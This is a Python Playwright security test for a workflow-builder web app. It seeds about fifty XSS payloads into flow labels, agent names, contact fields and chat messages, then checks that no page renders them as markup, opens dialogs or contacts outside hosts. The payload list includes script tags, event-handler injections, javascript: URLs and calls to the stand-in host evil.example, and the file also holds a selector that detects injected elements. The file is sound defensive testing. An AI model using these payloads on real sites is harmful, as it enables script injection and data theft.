"""Fifty texts that try to become markup or a script, in what people and platforms write, on every page that shows it:
no dialog, no request elsewhere, no refusal by the policy, no markup of theirs (SAFETY section 7, XSS).
"""

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from builder.flows import create_flow
from builder.models import Scenario
from builder.publishing import publish
from integrations.models import Connection
from runtime import tasks
from runtime.chatting import add_message
from runtime.group_commit import recorder
from runtime.intake import Arrival, accept
from runtime.models import Agent, ApiKey, Conversation, Run
from tests.browser.editing import open_editor
from tests.flows import call_ended, chain, decision, end, node, set_variable

CALLS = ("alert(1)", "import('//evil.example/x')", "fetch('//evil.example')")
HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerrawupdate")
PAYLOADS = [
    *(f"<script>{call}</script>" for call in CALLS),
    *(f"<img src=x {handler}=alert(1)>" for handler in HANDLERS),
    *(f"<svg {handler}=alert(1)>" for handler in HANDLERS),
    *(f"\"{close} {handler}=alert(1) x={close}\"" for close in ("'", ">") for handler in HANDLERS[:4]),
    *(f"</{tag}><img src=x onerror=alert(1)>" for tag in ("script", "style", "title", "textarea", "a")),
    "<iframe src=//evil.example>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=//evil.example>",
    "<embed src=//evil.example>", "<base href=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><button>x</button></form>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)//", "data:text/html,<script>alert(1)</script>", "//evil.example/x.js",
    "<!--<img src='--><img src=x onerror=alert(1)>'>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<math><mtext><style><img src=x onerror=alert(1)>", "<svg><use href='//evil.example#x'/></svg>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>", "#{alert(1)}",
    "\u2028alert(1)//", "\\u003cimg src=x onerror=alert(1)\\u003e", "&lt;img src=x onerror=alert(1)&gt;",
    "%3Cimg%20src=x%20onerror=alert(1)%3E", "`-alert(1)-`", "';alert(1)//", '";alert(1)//',
]  # fmt: skip
ALL = " ¶ ".join(PAYLOADS)
THEIRS = """() => [...document.querySelectorAll(
    "iframe, object, embed, base, [onerror], [onload], [onfocus], meta[http-equiv=refresh], a[href^='java' i]"
)].map((each) => each.outerHTML)"""
LISTS = ("/", "/runs/", "/calls/", "/dashboard/", "/waiting/", "/data/", "/settings/connections/", "/settings/agents/",
         "/settings/api-keys/", "/settings/members/", "/settings/audit/")  # fmt: skip


def plain(text):
    """As a template that says it: braces are no placeholders."""
    return text.replace("{{", "{ {")


@pytest.fixture
def flow(live, workspace, owner):
    """A flow of one step for each text, in its label and its value."""
    steps = [{**set_variable(f"n{at:02}", said=plain(text)), "label": text[:80]} for at, text in enumerate(PAYLOADS)]
    check = {**decision("check", "{{interaction.summary}}", "equals", PAYLOADS[0]), "label": PAYLOADS[4]}
    asked = node(
        "asked", "approval", {"message": plain(ALL)[:2000], "payload": "{{interaction.summary}}", "who": PAYLOADS[3]}
    )
    document = chain(call_ended(statuses=[]), *steps, check, asked, end(outcome="{{interaction.summary}}"),
                     edges=(("check", "yes", "end"),), ports={"asked": "approved"})  # fmt: skip
    document["edges"].append({"id": "e99", "source": "asked", "port": "denied", "target": "end"})
    document["layout"] = {
        each["id"]: {"x": at % 8 * 304, "y": at // 8 * 128} for at, each in enumerate(document["nodes"])
    }
    document["notes"] = [{"id": f"m{at}", "x": 2500, "y": at * 90, "width": 200, "height": 80, "text": text}
                         for at, text in enumerate(PAYLOADS[::5])]  # fmt: skip
    made = create_flow(workspace, owner.user, name=PAYLOADS[3][:120], kind="post_call", document=document)
    made.description = ALL[:500]
    made.save()
    publish(made, owner.user, note=ALL[:300])
    Scenario.objects.create(workspace=workspace, flow=made, name=PAYLOADS[5][:80], event={"type": "call.ended"})
    return made


@pytest.fixture
def told(flow, workspace, owner):
    """What platforms and visitors said, and things with names of people's own."""
    for at, agent in enumerate(PAYLOADS[::7]):
        Agent.objects.create(workspace=workspace, slug=f"a{at}", name=agent[:80])
        Connection.objects.create(workspace=workspace, type="none", name=agent[:80], allowed_hosts=["example.com"])
        ApiKey.issue(workspace, agent[:60], ["events:write"])
    owner.user.name = PAYLOADS[6][:80]
    workspace.constants = {"said": ALL}
    for each in (owner.user, workspace):
        each.save()
    turns = [{"role": text[:20], "text": text, "at_seconds": at} for at, text in enumerate(PAYLOADS)]
    for at in range(3):
        interaction = {"id": f"c-{at}", "status": "completed", "summary": ALL if at else PAYLOADS[0], "turns": turns,
                       "recording_url": "javascript:alert(1)", "disposition": PAYLOADS[at]}  # fmt: skip
        contact = {"name": PAYLOADS[at + 3], "email": PAYLOADS[at], "phone": PAYLOADS[at + 5]}
        payload = {"interaction": interaction, "contact": contact, "variables": {PAYLOADS[at]: ALL}}
        recorder().submit(accept, Arrival(workspace.pk, "api", "call.ended", payload)).result(10)
    tasks.work(linger=0)
    handoff = {"queue": PAYLOADS[1], "reason": ALL, "at": "2026-01-20T15:00:00Z"}
    talk = Conversation.objects.create(
        workspace=workspace, interaction_id="talk", tags=[PAYLOADS[0][:60]], status="with_human", handoff=handoff,
        visitor={"page": "javascript:alert(1)", "browser": ALL},
    )  # fmt: skip
    for role in ("user", "agent", "human"):
        for text in PAYLOADS:
            add_message(talk, role, text, {"buttons": [{"label": text, "value": text}]} if role == "agent" else {})
    return talk


def test_no_text_of_fifty_becomes_anything_but_itself_on_any_page(live, page, sign_in, owner, flow, told):
    sign_in(owner)
    dialogs, elsewhere, here = [], [], urlsplit(live).netloc
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda asked: urlsplit(asked.url).netloc not in ("", here) and elsewhere.append(asked.url))
    runs = list(Run.objects.order_by("id"))
    assert {run.status for run in runs} == {"succeeded", "waiting"}
    of_one = [f"/runs/{run.pk}/" for run in runs[:2]] + [
        f"/conversations/{told.pk}/", f"/flows/{flow.pk}/versions/", "/calls/?q=c-1",
        f"/settings/agents/{Agent.objects.first().pk}/", f"/settings/connections/{Connection.objects.first().pk}/",
    ]  # fmt: skip
    for path in (*LISTS, *of_one):
        assert page.goto(path).status == 200, path
        assert page.evaluate(THEIRS) == [], path
        assert urlsplit(page.url).netloc == here, path
    for query in ("", f"?run={runs[0].pk}"):
        open_editor(page, flow, query)
        expect(page.get_by_role("article").first).to_be_attached()
        assert page.evaluate(THEIRS) == [], "the editor"
    assert (dialogs, elsewhere) == ([], [])
    assert len(PAYLOADS) >= 50
